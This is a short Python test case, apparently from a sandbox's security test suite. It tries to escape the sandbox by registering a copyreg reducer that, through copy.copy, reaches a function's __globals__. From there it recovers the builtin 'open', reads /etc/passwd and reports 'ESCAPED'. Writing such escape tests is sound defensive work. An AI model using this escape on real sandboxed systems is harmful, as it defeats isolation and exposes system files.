# tries: a class is registered with a reducer of the guest's
# class: reduce
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import copy
import copyreg
import json


class C:
    pass


copyreg.pickle(C, lambda c: (getattr, (json.JSONEncoder.default, "__globals__")))
use(dig(copy.copy(C())))
